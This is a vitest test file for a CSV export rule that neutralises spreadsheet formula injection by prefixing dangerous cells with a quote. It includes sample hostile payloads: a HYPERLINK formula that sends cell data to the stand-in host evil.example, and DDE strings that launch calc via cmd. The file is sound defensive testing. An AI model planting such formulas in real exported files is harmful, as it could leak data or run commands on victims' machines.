import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  CSV_BOM,
  CSV_WRITE_OPTIONS,
  escapeFormula,
  FORMULA_CELL,
  FORMULA_CELL_PATTERN,
  FORMULA_START_PATTERN,
  FORMULA_TRIGGERS,
  needsFormulaEscape,
} from '@shared/rules/csv';

/** Texts a spreadsheet would run (OWASP CSV injection). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
  "+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '=1+1\r\nsecond line',
  '\r\n=1+1',
  '-',
  '+',
  '--5',
  '-5\n',
];
/** Texts left as they are: plain numbers (whatever their sign), ordinary text, an already neutralised cell. */
const HARMLESS = ['-5', '+3', '-1234.50', '-1,5', '42', 'Plain', 'a=b', '5-2', ' =1', "'=1+1", '', 'Échantillon -cardio'];

describe('CSV export-cell rule (formula injection)', () => {
  it('prefixes a text starting with = + - @ tab or CR with a quote, unless it is a plain number', () => {
    for (const text of HOSTILE) {
      expect(needsFormulaEscape(text), JSON.stringify(text)).toBe(true);
      expect(escapeFormula(text)).toBe(`'${text}`);
    }
    for (const text of HARMLESS) {
      expect(needsFormulaEscape(text), JSON.stringify(text)).toBe(false);
      expect(escapeFormula(text)).toBe(text);
    }
  });

  it('one character list: the function, the RegExp and its text agree', () => {
    expect([...FORMULA_TRIGGERS]).toEqual(['=', '+', '-', '@', '\t', '\r']);
    for (const trigger of FORMULA_TRIGGERS) {
      expect(new RegExp(`^${FORMULA_START_PATTERN}`).test(trigger + 'x')).toBe(true);
      expect(needsFormulaEscape(`${trigger}x`)).toBe(true);
    }
    expect(FORMULA_CELL.source.length).toBeGreaterThan(0);
    expect(new RegExp(FORMULA_CELL_PATTERN).flags).toBe('');
    for (const text of [...HOSTILE, ...HARMLESS]) expect(FORMULA_CELL.test(text), JSON.stringify(text)).toBe(needsFormulaEscape(text));
  });

  it("papaparse's escapeFormulae with the rule: hostile texts prefixed and quoted, numbers (even negative) untouched", () => {
    const rows = [[...HOSTILE.slice(0, 6), -5, -1234.5, 0, '-5', 'Plain']];
    const csv = Papa.unparse(rows, { delimiter: ';', newline: '\r\n', escapeFormulae: FORMULA_CELL });
    const cells = Papa.parse<string[]>(csv, { delimiter: ';', newline: '\r\n' }).data[0];
    expect(cells).toEqual([...HOSTILE.slice(0, 6).map((text) => `'${text}`), '-5', '-1234.5', '0', '-5', 'Plain']);
    expect(csv).toContain(`;"'-2+3";"'\t=1+1";"'\r=1+1";-5;-1234.5;0;-5;Plain`);
    // papaparse's own `true` misses a formula followed by a line break: why the rule gives its RegExp.
    expect(Papa.unparse([['=1+1\r\nx']], { escapeFormulae: true })).toBe('"=1+1\r\nx"');
    expect(Papa.unparse([['=1+1\r\nx']], { escapeFormulae: FORMULA_CELL })).toBe(`"'=1+1\r\nx"`);
  });
});

describe('CSV write options (one layout for every file written)', () => {
  it("writes ';' between cells, CRLF between records and neutralises formulas", () => {
    const text = Papa.unparse(
      [
        ['Nom', 'Valeur'],
        ['=1+1', -5],
        ['a;b', 'ligne\nsuivante'],
      ],
      CSV_WRITE_OPTIONS,
    );
    expect(text).toBe('Nom;Valeur\r\n"\'=1+1";-5\r\n"a;b";"ligne\nsuivante"');
    expect(CSV_BOM).toBe('\uFEFF');
  });
});
